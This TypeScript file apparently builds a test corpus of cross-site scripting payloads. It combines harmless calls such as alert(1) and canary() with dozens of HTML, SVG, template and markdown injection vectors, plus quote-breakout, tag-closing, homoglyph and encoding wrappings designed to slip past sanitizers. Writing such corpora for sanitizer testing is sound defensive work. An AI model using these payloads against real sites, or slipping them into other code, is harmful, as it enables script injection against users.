/** Hostile texts, built from parts: what browsers were ever made to run, in every wrapping that once let it through. */

const CALLS = ["alert(1)", "canary()", "import('//x')", "top.canary()", "self['canary']()", "canary`1`"];

const ELEMENTS = [
  (call: string) => `<script>${call}</script>`,
  (call: string) => `<ScRiPt >${call}</sCrIpT>`,
  (call: string) => `<img src=x onerror=${call}>`,
  (call: string) => `<img src="x" onerror="${call}" `,
  (call: string) => `<svg onload=${call}>`,
  (call: string) => `<svg><script>${call}</script></svg>`,
  (call: string) => `<svg><animate onbegin=${call} attributeName=x></svg>`,
  (call: string) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  (call: string) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call: string) => `<iframe src="javascript:${call}">`,
  (call: string) => `<object data="data:text/html,<script>${call}</script>">`,
  (call: string) => `<a href="javascript:${call}">link</a>`,
  (call: string) => `<a href="java\tscript:${call}">link</a>`,
  (call: string) => `<details open ontoggle=${call}>`,
  (call: string) => `<input autofocus onfocus=${call}>`,
  (call: string) => `<body onpageshow=${call}>`,
  (call: string) => `<style>@import'//x';</style><link rel=stylesheet href="//x" onload=${call}>`,
  (call: string) => `<template><script>${call}</script></template>`,
  (call: string) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call: string) => `{@html "<img src=x onerror=${call}>"}`,
  (call: string) => `{{constructor.constructor('${call}')()}}`,
  (call: string) => `\${${call}}`,
  (call: string) => `javascript:${call}`,
  (call: string) => `[link](javascript:${call})`,
  (call: string) => `![x](x "onerror=${call}")`,
  (call: string) => `data:text/html;base64,${call}`,
  (call: string) => `<ѕсrірt>${call}</ѕсrірt>`,
];

const WRAPPINGS = [
  (text: string) => text,
  (text: string) => `">${text}`,
  (text: string) => `'>${text}`,
  (text: string) => `</textarea></title></style></script>${text}`,
  (text: string) => `<!--${text}-->`,
  (text: string) => `<![CDATA[${text}]]>`,
  (text: string) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text: string) => text.replaceAll("<", "\u003c\u200B"),
  (text: string) => `https://shop.example/${text}`,
];

/** Every wrapping of every element around every call, each once. */
export const HOSTILE: readonly string[] = [
  ...new Set(
    CALLS.flatMap((call) => ELEMENTS.flatMap((element) => WRAPPINGS.map((wrap) => wrap(element(call))))),
  ),
];
